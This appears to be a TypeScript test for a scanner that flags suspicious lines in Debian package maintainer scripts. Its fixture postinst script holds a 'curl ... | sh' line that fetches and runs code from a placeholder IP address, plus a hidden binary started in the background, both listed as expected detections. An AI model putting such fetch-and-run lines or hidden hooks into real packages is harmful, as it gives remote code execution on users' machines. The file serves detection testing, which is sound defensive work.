import { testKind } from '../../test/kinds.ts'
import { shellUnits } from '../parse/files/shell-units.ts'
import { maintainerScript } from './maintainer-script.ts'

testKind(maintainerScript, {
  tree: {
    '/var/lib/dpkg/info/bash.postinst':
      '#!/bin/sh\nset -e\nupdate-alternatives --install /usr/share/x\n# curl http://x\ncurl -s http://192.0.2.1/a | sh\n/usr/lib/.x/y &\n',
    '/var/lib/dpkg/info/dash.prerm': '#!/bin/sh\nrm -rf /tmp/dash.$$\n',
  },
  lists: ['/var/lib/dpkg/info/bash.postinst:5 curl -s http://192.0.2.1/a | sh', '/var/lib/dpkg/info/bash.postinst:6 /usr/lib/.x/y &'],
  sound: bytes => [...shellUnits(bytes)].every(unit => unit.closed),
})
